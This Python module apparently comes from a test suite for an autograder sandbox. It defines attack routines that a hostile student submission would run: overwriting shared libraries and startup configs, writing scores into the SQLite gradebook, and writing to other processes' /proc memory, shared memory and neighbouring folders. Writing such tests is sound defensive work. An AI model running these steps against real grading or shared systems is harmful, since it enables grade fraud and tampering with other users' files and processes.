"""Attacks that write: into the course, the library, shared memory, the next submission's folder.

Each first looks for what an earlier run of itself left, and prints it as loot: whatever could be found
there could have come from another student. The suite grades each of them twice.
"""

from __future__ import annotations

from sample_class.handed_in import HandedIn

from attacks.recipe import COURSE, attack

#: What the attacks share: a note to leave, and a way to try many things.
NOTE = f"""
import contextlib
import ctypes
import os
from pathlib import Path

COURSE = Path("{COURSE}")
NOTE = b"left by an earlier submission"
libc = ctypes.CDLL(None, use_errno=True)

def show(where, found):
    print("LOOT", where, str(found)[:4000])

def leave(path):
    \"\"\"Look for the note at `path`, then leave it there.\"\"\"
    path = Path(path)
    with contextlib.suppress(OSError):
        if NOTE in path.read_bytes():
            show(path, "left here by an earlier submission")
    with contextlib.suppress(OSError):
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(NOTE)
        return True
    return False

def dot_score(x_i, x_j):
    return 0.0
"""


def _leave(submission: HandedIn, source: str) -> None:
    submission.fill("dot_score", NOTE)
    submission.after("dot_score", source)


@attack("writing", "dot_score")
def configuration_written(submission: HandedIn) -> None:
    """Settings that matplotlib, IPython, Jupyter and nbgrader would read at their next start."""
    _leave(
        submission,
        """
        import matplotlib
        import IPython.paths

        folders = [matplotlib.get_configdir(), matplotlib.get_cachedir(), IPython.paths.get_ipython_dir()]
        folders += [os.environ.get(name, ".") for name in ("MPLCONFIGDIR", "IPYTHONDIR", "HOME")]
        for folder in dict.fromkeys(map(Path, folders)):
            if folder == Path.cwd():
                continue
            for name in ("matplotlibrc", "fontlist-v390.json", "profile_default/ipython_config.py"):
                if leave(folder / name) and not folder.is_relative_to(Path.cwd()):
                    show(folder / name, "could be written")
        for name in ("nbgrader_config.py", ".course_secret", "notebooks/trap.py"):
            if leave(COURSE / name):
                show(COURSE / name, "could be written")
        """,
    )


@attack("writing", "dot_score")
def library_overwritten(submission: HandedIn) -> None:
    """The library and NumPy, which all submissions share, are written, cut, linked, renamed, touched."""
    _leave(
        submission,
        """
        import mmap
        import attention_lib

        for path in (Path(attention_lib.__file__), Path(np.__file__), COURSE / "attention_lib/compare.py"):
            acts = {
                "write": lambda: path.open("r+b").write(b"#"),
                "append": lambda: path.open("ab").write(b"#"),
                "cut": lambda: os.truncate(path, 0),
                "cut while reading": lambda: os.open(path, os.O_RDONLY | os.O_TRUNC),
                "map": lambda: mmap.mmap(os.open(path, os.O_RDONLY), 1, mmap.MAP_SHARED, mmap.PROT_WRITE),
                "remove": lambda: path.unlink(),
                "rename": lambda: path.rename(path.with_suffix(".old")),
                "replace": lambda: os.replace("mine.py", path),
                "hard link": lambda: os.link(path, "linked.py"),
                "mode": lambda: path.chmod(0o777),
                "mode of the open file": lambda: os.fchmod(os.open(path, os.O_RDONLY), 0o777),
                "times": lambda: os.utime(path, (0, 0)),
                "attribute": lambda: os.setxattr(path, "user.note", NOTE),
                "sibling": lambda: (path.parent / "numpy_trap.py").write_bytes(NOTE),
            }
            Path("mine.py").write_bytes(b"raise SystemExit")
            for name, act in acts.items():
                with contextlib.suppress(OSError, ValueError):
                    act()
                    show(name, path)
        """,
    )


@attack("writing", "dot_score")
def gradebook_written(submission: HandedIn) -> None:
    """Points for everyone are written into the gradebook, and beside it the files that SQLite replays."""
    _leave(
        submission,
        """
        import sqlite3

        for name in ("gradebook.db", "gradebook.db-journal", "gradebook.db-wal", "submitted/trap.txt"):
            if leave(COURSE / name):
                show(name, "could be written")
        for how in ("rwc", "rw", "ro&immutable=1"):
            with contextlib.suppress(sqlite3.Error):
                book = sqlite3.connect(f"file:{COURSE}/gradebook.db?mode={how}", uri=True)
                book.execute("create table if not exists grade (manual_score)")
                show("tables", book.execute("select * from sqlite_master").fetchall())
        """,
    )


@attack("writing", "dot_score")
def neighbours_folder_written(submission: HandedIn) -> None:
    """Notes for the submissions to come, in the folders beside the private one and above it."""
    _leave(
        submission,
        """
        here = Path.cwd()
        for number in range(200):
            place = here.parent / str(number)
            if place != here and leave(place / "note.txt"):
                show(place, "could be written")
        for above in here.parents:
            if leave(above / "note.txt"):
                show(above, "could be written")
            with contextlib.suppress(OSError):
                show(above, os.listdir(above))
        """,
    )


@attack("writing", "dot_score")
def shared_memory_left(submission: HandedIn) -> None:
    """Notes in every memory that processes share: /dev/shm, System V, POSIX queues and semaphores, memfd."""
    _leave(
        submission,
        """
        import mmap
        import platform
        from multiprocessing import shared_memory

        for folder in ("/dev/shm", "/run/shm", "/dev/mqueue", "/run/lock", "/run/user/0"):
            leave(f"{folder}/note")
        for made in (True, False):
            with contextlib.suppress(OSError):
                block = shared_memory.SharedMemory("course_note", create=made, size=100)
                if bytes(block.buf).startswith(NOTE):
                    show("shared memory", "left here by an earlier submission")
                block.buf[: len(NOTE)] = NOTE
        KEY, CREATE = 0x5EED, 0o1000 | 0o666
        libc.shmat.restype = ctypes.c_void_p
        block = libc.shmget(KEY, 4096, CREATE)
        if block >= 0:
            show("System V memory", ctypes.string_at(libc.shmat(block, None, 0), 40))
            ctypes.memmove(libc.shmat(block, None, 0), NOTE, len(NOTE))
        made = {"message queue": libc.msgget(KEY, CREATE), "semaphore": libc.semget(KEY, 1, CREATE)}
        for name, made in made.items():
            if made >= 0:
                show(name, made)
        if platform.machine() == "x86_64":
            calls = {
                "mq_open": (240, b"note", 0o102, 0o666, None),
                "memfd": (319, b"note", 0),
                "keyring": (248, b"user", b"note", NOTE, len(NOTE), -5),
            }
            for name, arguments in calls.items():
                if libc.syscall(*arguments) >= 0:
                    show(name, "made")
        """,
    )


@attack("writing", "dot_score")
def zygote_written(submission: HandedIn) -> None:
    """Whatever this process may share with its parent is written, in the hope that the next fork has it."""
    _leave(
        submission,
        """
        import builtins
        import mmap
        import sys

        if getattr(builtins, "left", None):
            show("builtins", builtins.left)
        builtins.left = sys.left = np.left = "left here by an earlier submission"
        with contextlib.suppress(OSError):
            for line in Path("/proc/self/maps").read_text().splitlines():
                if line.split()[1].endswith("s"):
                    show("a shared mapping", line)
        for pid in (os.getppid(), 1, os.getpid() - 1, os.getpid() + 1):
            for name in ("mem", "oom_score_adj", "comm", "attr/current", "coredump_filter", "uid_map"):
                with contextlib.suppress(OSError):
                    with open(f"/proc/{pid}/{name}", "r+b", buffering=0) as file:
                        file.write(NOTE)
                        show(pid, name)
        for number in range(3, 64):
            for option, value in ((4, 0), (8, os.getpid()), (1024, 1), (1033, 1)):
                import fcntl
                with contextlib.suppress(OSError):
                    fcntl.fcntl(number, option, value)
        """,
    )


@attack("writing", "dot_score")
def links_for_the_cleaner(submission: HandedIn) -> None:
    """The private folder is left full of links to the course, for whoever clears it and follows them."""
    _leave(
        submission,
        """
        for name in ("solutions", "gradebook.db", "submitted", "attention_lib", "."):
            with contextlib.suppress(OSError):
                os.symlink(COURSE / name, f"link to {name.strip('.') or 'all'}")
        os.makedirs("deep/er", exist_ok=True)
        with contextlib.suppress(OSError):
            os.symlink("..", "deep/er/round")
        with contextlib.suppress(OSError):
            os.rename("deep", COURSE / "deep")
            show("moved", COURSE)
        with contextlib.suppress(OSError):
            here = Path.cwd()
            os.chdir("/")
            os.rename(here, here.with_name("moved"))
            os.symlink(COURSE, here)
            show("replaced", here)
        """,
    )
